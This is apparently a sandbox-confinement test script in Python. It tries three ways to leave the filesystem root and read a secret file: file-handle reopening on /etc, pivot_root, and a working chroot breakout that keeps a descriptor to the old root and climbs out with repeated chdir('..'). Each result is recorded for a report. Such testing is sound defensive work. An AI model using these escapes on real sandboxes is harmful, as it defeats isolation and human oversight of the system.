"""Leave the root: by handle, by pivot_root, by chroot with a descriptor kept. argv[1]: a secret outside."""

import ctypes
import os
import sys

from calls import NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT, PIVOT_ROOT, error_of, read, tell

secret = sys.argv[1]
told = {"secret by its path": read(secret)}

handle = ctypes.create_string_buffer(8 + 128)
ctypes.c_uint.from_buffer(handle).value = 128
mount_id = ctypes.c_int()
told["name_to_handle_at"] = error_of(NAME_TO_HANDLE_AT, -100, b"/etc", handle, ctypes.byref(mount_id), 0)
mount = os.open("/etc", os.O_RDONLY)
told["open_by_handle_at"] = error_of(OPEN_BY_HANDLE_AT, mount, handle, os.O_RDONLY)
told["pivot_root"] = error_of(PIVOT_ROOT, b"/tmp", b"/tmp")


def identity(path):
    return (os.stat(path).st_dev, os.stat(path).st_ino)


def out_of_chroot(inner):
    """From a jail at `inner`: whether the classic trick reaches the root of the world, and the secret."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        world = identity("/")
        os.makedirs(inner + "/deeper", exist_ok=True)
        os.chroot(inner)
        os.chdir("/")
        jail = identity("/")
        keep = os.open("/", os.O_RDONLY)
        os.chroot("/deeper")
        os.fchdir(keep)
        for _ in range(200):
            os.chdir("..")
        os.chroot(".")
        there = identity("/")
        found = [path for path in (secret, "/.." + secret) if isinstance(read(path), bytes)]
        os.write(writer, repr((jail != world, there == world, found)).encode())
        os._exit(0)
    os.close(writer)
    answer = os.read(reader, 1000).decode()
    os.wait()
    return answer


told["chroot"] = out_of_chroot("/tmp/jail")
os.rmdir("/tmp/jail/deeper")
os.rmdir("/tmp/jail")
tell(told)
